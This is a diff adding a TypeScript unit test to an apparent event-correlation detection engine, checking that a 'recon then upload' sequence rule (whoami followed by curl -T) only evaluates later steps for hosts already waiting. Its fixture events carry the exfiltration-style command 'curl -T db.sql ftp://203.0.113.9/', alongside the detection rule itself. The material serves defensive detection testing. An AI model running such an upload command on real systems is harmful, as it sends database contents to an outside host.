@@ -197,6 +197,44 @@ rules:
 
 const sshFailure = (seconds: number, ip: string, user = 'root') => ev('ssh_login', seconds, { 'event.outcome': 'failure', 'source.ip': ip, 'user.name': user });
 
+describe('correlation: later steps only where a group waits', () => {
+  it('does not evaluate a later step of an ordered sequence when no group under its keys has reached the step before', () => {
+    const set = load(`
+rules:
+  - id: recon_then_upload
+    type: sequence
+    title: Reconnaissance, then an upload
+    severity: high
+    within: 60s
+    by: host.name
+    steps:
+      - condition: event.action = exec and process.name = whoami
+      - condition: event.action = exec and process.name = curl and process.command_line contains "-T"
+`);
+    let reads = 0;
+    const counted = (host: string, seconds: number) => {
+      const e = ev('exec', seconds, { 'host.name': host, 'process.name': 'curl' });
+      Object.defineProperty(e['process'], 'command_line', {
+        enumerable: true,
+        get() {
+          reads++;
+          return 'curl -T db.sql ftp://203.0.113.9/';
+        },
+      });
+      return e;
+    };
+    // Nothing waits on web-02, nor anywhere yet: the second step's command line is never read.
+    assert.equal(feed(set, [counted('web-01', 0), counted('web-02', 1)]).length, 0);
+    assert.equal(reads, 0);
+    // web-01 waits after its whoami: its curl is evaluated (and completes the sequence); web-02's is not.
+    assert.equal(feed(set, [recon('web-01', 2), counted('web-02', 3)]).length, 0);
+    assert.equal(reads, 0);
+    const hits = feed(set, [counted('web-01', 4)]);
+    assert.equal(hits.length, 1);
+    assert.ok(reads >= 1);
+  });
+});
+
 describe('correlation: thresholds', () => {
   const bruteForce = `
 rules:
